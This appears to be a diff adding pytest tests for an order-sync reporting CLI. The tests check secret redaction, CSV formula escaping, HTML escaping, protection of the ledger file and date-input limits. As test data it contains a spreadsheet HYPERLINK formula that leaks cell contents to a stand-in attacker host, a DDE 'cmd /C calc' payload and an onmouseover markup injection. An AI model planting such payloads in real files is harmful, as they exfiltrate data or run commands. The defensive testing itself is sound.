@@ -1,0 +1,93 @@
+"""``ordersync report`` against a hostile vendor and a careless operator: vendor text that is
+a spreadsheet formula or markup carrying a configured secret, ``--out`` aimed at the ledger,
+and ``--since`` values beyond any calendar. Real simulators, the real CLI."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import html
+import io
+import json
+import os
+import time
+
+from ordersync.report.text import render_csv
+from tests.cli_support import arun_cli, one_error_line
+from tests.conftest import FakeClock
+from tests.report_support import DAY, ENV, report_site
+
+SECRET = "pw&<'\"key-9f31"       # the Pwinty key as the report's environment holds it
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+async def test_hostile_vendor_text_is_inert_and_secrets_are_redacted_in_every_format(tmp_path):
+    clock = FakeClock(time.time() - 2 * DAY)
+    async with report_site(tmp_path, clock) as site:
+        [order, *_] = [i for i in site.fw.order_ids()
+                       if site.fw.get_order(i)["state"] == "pending"]
+        email = f"{FORMULA}<b onmouseover='x'>{SECRET}</b>"
+        site.fw.touch(order, owner={**site.fw.get_order(order)["owner"], "email": email})
+        clock.now = time.time()
+        await site.sync()
+        env = {**ENV, "RPT_PWINTY_KEY": SECRET}   # report talks to no vendor: any value will do
+        base = ("--config", str(site.config_path), "report")
+        outputs = await asyncio.gather(*(arun_cli(*base, *extra, env=env) for extra in (
+            (), ("--format", "csv"), ("--format", "json"), ("--json",),
+            ("--format", "html"))))
+    for result in outputs:
+        assert result.returncode == 0 and result.stderr == "", result
+        for spelling in (SECRET, html.escape(SECRET), json.dumps(SECRET)[1:-1],
+                         SECRET.replace('"', '""'), "key-9f31"):
+            assert spelling not in result.stdout, (spelling, result.stdout[:2000])
+    table, as_csv, as_json, wrapped, page = (r.stdout for r in outputs)
+    [row] = [r for r in csv.DictReader(io.StringIO(as_csv)) if r["key"] == f"stuck:fw:{order}"]
+    assert FORMULA in row["reason"]
+    stuck = [e for e in json.loads(as_json)["exceptions"] if e["key"] == f"stuck:fw:{order}"]
+    assert FORMULA in stuck[0]["reason"]
+    assert all("[redacted]</b>" in text for text in (as_csv, as_json, wrapped))
+    assert "<b onmouseover" not in page and "[redacted]&lt;/b&gt;" in page
+    assert "<b onmouseover" not in page and "&lt;b onmouseover=&#x27;x&#x27;&gt;" in page
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote():
+    hostile = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    report = {"vendors": [{"vendor": "v", "freshness_s": 1.5}], "exceptions": [
+        {"vendor": "v", "kind": "problem", "key": f"problem:v:{i}", "order": text,
+         "action": None, "status": "new", "age_s": 2.0, "reason": text,
+         "first_seen": "2026-11-30T06:00:00.000Z", "last_seen": "2026-11-30T06:00:00.000Z",
+         "resolved": None} for i, text in enumerate(hostile)]}
+    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
+    assert [r["reason"] for r in rows] == ["'" + text for text in hostile]
+    assert [r["order"] for r in rows] == ["'" + text for text in hostile]
+    assert {r["age_s"] for r in rows} == {"2.0"} and {r["freshness_s"] for r in rows} == {"1.5"}
+
+
+async def test_out_never_replaces_the_ledger(tmp_path, clock):
+    async with report_site(tmp_path, clock) as site:
+        ledger = site.config.ledger_path
+        before = ledger.read_bytes()
+        link = tmp_path / "link.db"
+        link.symlink_to(ledger)
+        base = ("--config", str(site.config_path), "report")
+        itself, via_link, relative, wal = await asyncio.gather(
+            arun_cli(*base, "--out", str(ledger), env=ENV),
+            arun_cli(*base, "--out", str(link), env=ENV),
+            arun_cli(*base, "--out", os.path.relpath(ledger), env=ENV),
+            arun_cli(*base, "--out", f"{ledger}-wal", env=ENV))
+        for result in (itself, via_link, relative, wal):
+            one_error_line(result, 2, "--out ", "the ledger")
+        assert ledger.read_bytes()[:100] == before[:100] and link.is_symlink()
+        assert site.report()["vendors"]   # still a ledger
+
+
+async def test_since_beyond_the_calendar_or_in_the_future_is_one_line(tmp_path, clock):
+    async with report_site(tmp_path, clock) as site:
+        base = ("--config", str(site.config_path), "report")
+        results = await asyncio.gather(*(arun_cli(*base, "--since", when, env=ENV) for when in (
+            "99999999999w", "9" * 400 + "h", "9999-12-31T23:59:59-14:00",
+            "0001-01-01T00:00:00+14:00", "2999-01-01T00:00:00Z")))
+        zero = await arun_cli(*base, "--since", "0h", "--format", "json", env=ENV)
+    for result in results:
+        one_error_line(result, 2, "--since: ")
+    assert zero.returncode == 0 and json.loads(zero.stdout)["counts"]["new"] == 0
